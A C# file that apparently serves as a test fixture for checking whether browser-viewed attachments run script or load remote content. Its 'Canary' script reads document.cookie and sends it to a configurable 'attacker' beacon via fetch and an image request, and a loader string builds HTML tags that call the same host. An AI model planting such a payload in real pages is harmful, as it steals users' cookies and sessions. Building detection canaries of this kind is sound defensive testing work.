namespace Attachments.Browser.Corpus;

/// <summary>What an active file does when something of it runs: it tells everybody whom it can reach.</summary>
/// <param name="Beacon">The attacker's site.</param>
/// <param name="Token">What the attacker knows the file by.</param>
public sealed record Canary(Uri Beacon, string Token)
{
    /// <summary>What a canary leaves behind wherever it can: in variables, in the page's title, in a dialog.</summary>
    public const string Song = "canary sings";

    /// <summary>Gets an address of the attacker's that nobody asks for unless the file made them.</summary>
    public string Address => $"{Beacon}{Token}/loaded";

    /// <summary>
    /// Gets a script that runs in pages, modules and workers alike. It has no character that markup, an attribute in double quotes or an XML document would read otherwise, and no line break.
    /// </summary>
    public string Script { get; } =
        $"(function(){{var c='';try{{c=document.cookie}}catch(e){{c='no cookie'}}"
        + $"try{{window.canary='{Song}'}}catch(e){{}}try{{parent.canary='{Song}'}}catch(e){{}}try{{top.canary='{Song}'}}catch(e){{}}try{{document.title='{Song}'}}catch(e){{}}"
        + $"try{{fetch('{Beacon}{Token}/ran?'+encodeURIComponent(c),{{mode:'no-cors'}})}}catch(e){{}}"
        + $"try{{new Image().src='{Beacon}{Token}/ran?'+encodeURIComponent(c)}}catch(e){{}}"
        + $"try{{postMessage('{Song}')}}catch(e){{}}"
        + $"try{{alert('{Song}')}}catch(e){{}}}})();";

    /// <summary>Gets a page that runs the script, in one line.</summary>
    public string Page => $"<!DOCTYPE html><html><head><title>page</title></head><body><script>{Script}</script></body></html>";

    /// <summary>Gets elements that load from the attacker without any script.</summary>
    public string Loaders =>
        $"<img src=\"{Address}/img\"/><iframe src=\"{Address}/iframe\"></iframe><object data=\"{Address}/object\"></object><embed src=\"{Address}/embed\"/>"
        + $"<link rel=\"stylesheet\" href=\"{Address}/css\"/><link rel=\"prefetch\" href=\"{Address}/prefetch\"/><video src=\"{Address}/video\"></video>";
}
